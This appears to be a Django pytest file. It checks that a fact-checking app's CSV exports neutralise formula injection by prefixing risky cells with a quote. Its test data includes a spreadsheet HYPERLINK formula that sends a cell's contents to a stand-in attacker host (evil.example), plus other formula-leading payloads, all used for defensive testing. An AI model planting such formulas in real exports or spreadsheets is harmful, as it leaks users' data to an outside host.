"""CSV cells a spreadsheet would run as a formula get a ``'`` in front, on both paths."""

import pytest
from django.db import connection
from django.db.models import Value
from django.http import QueryDict

from claims.exports.cells import Neutralised, neutralise
from claims.exports.table import write_csv
from claims.models import Claim, Rating
from claims.read.selection import Newsroom, select_claims
from factcheck.api.links import Links
from tests.factories import ClaimFactory, RatingFactory, SpeakerFactory, TagFactory
from tests.helpers import claims_action, csv_rows

pytestmark = pytest.mark.django_db

on_postgresql = pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")

# (the text, the cell written)
CELLS = [
    (
        '=HYPERLINK("http://evil.example/?x="&A1, "click")',
        '\'=HYPERLINK("http://evil.example/?x="&A1, "click")',
    ),
    ("+1 555 0100", "'+1 555 0100"),
    ("-2 percent", "'-2 percent"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tleading tab", "'\tleading tab"),
    ("\rleading carriage return", "'\rleading carriage return"),
    ("=", "'="),
    # A leading quote is doubled, so that reading back is one rule (strip one).
    ("'=already quoted", "''=already quoted"),
    ("'tis the season", "''tis the season"),
    ("a = b, said nobody", "a = b, said nobody"),
    ("", ""),
    (" =space first", " =space first"),
    ("—dash, not a minus", "—dash, not a minus"),
]
SAMPLES = [text for text, _ in CELLS]


@pytest.mark.parametrize(("text", "cell"), CELLS)
def test_a_cell_is_prefixed_exactly_when_it_starts_like_a_formula(text, cell):
    assert neutralise(text) == cell


def test_numbers_and_empty_cells_are_left_alone():
    assert neutralise(-1) == -1
    assert neutralise(None) is None


def test_stripping_one_leading_quote_gives_the_original_back():
    for text in SAMPLES:
        written = neutralise(text)
        assert written.removeprefix("'") == text


@on_postgresql
def test_the_sql_expression_and_the_python_function_agree_on_every_sample():
    for text in [*SAMPLES, None]:
        row = (
            Rating.objects.annotate(cell=Neutralised(Value(text)))
            .values_list("cell", flat=True)
            .first()
        )
        assert row == neutralise(text), repr(text)


def hostile_claim() -> Claim:
    claim = ClaimFactory(
        label="-1 for the budget",
        text='=HYPERLINK("http://evil.example", "click")',
        speaker=SpeakerFactory(name="@minister"),
        rationale="+ it adds up",
        verdict=RatingFactory(slug="pants-on-fire", label="=Pants on fire", value=-2),
    )
    claim.tags.add(TagFactory(slug="-minus", name="Minus"))
    return claim


def newsroom_csv(**options) -> list[dict]:
    selection = select_claims(QueryDict(), user=Newsroom())
    return csv_rows(b"".join(write_csv(selection.claims, public=False, links=Links(), **options)))


def assert_neutralised(row: dict) -> None:
    assert row["label"] == "'-1 for the budget"
    assert row["text"] == '\'=HYPERLINK("http://evil.example", "click")'
    assert row["speaker"] == "'@minister"
    assert row["rationale"] == "'+ it adds up"
    assert row["verdict_label"] == "'=Pants on fire"
    assert row["tags"] == "'-minus"
    # A number is not a formula: a negative rating value stays a number.
    assert row["verdict_value"] == "-2"


def test_the_csv_export_neutralises_every_text_cell_that_starts_like_a_formula():
    hostile_claim()

    [row] = newsroom_csv()

    assert_neutralised(row)


@on_postgresql
@pytest.mark.parametrize("use_copy", [True, False], ids=["copy", "python"])
def test_both_paths_neutralise_the_same_cells(use_copy):
    hostile_claim()

    [row] = newsroom_csv(use_copy=use_copy)

    assert_neutralised(row)


def test_plain_cells_are_written_as_they_are():
    ClaimFactory(label="budget", text="It adds up, = 3 in all.")

    [row] = newsroom_csv()

    assert (row["label"], row["text"]) == ("budget", "It adds up, = 3 in all.")


def test_the_api_export_neutralises_formulas(editor_client):
    claim = hostile_claim()

    response = editor_client.get("/api/v1/claims/export.csv")

    [row] = csv_rows(b"".join(response.streaming_content))
    assert row["id"] == str(claim.pk)
    assert_neutralised(row)


def test_the_admin_csv_action_neutralises_formulas(staff_client):
    claim = hostile_claim()

    response = claims_action(staff_client, "export_csv", [claim])

    [row] = csv_rows(response.getvalue())
    assert_neutralised(row)
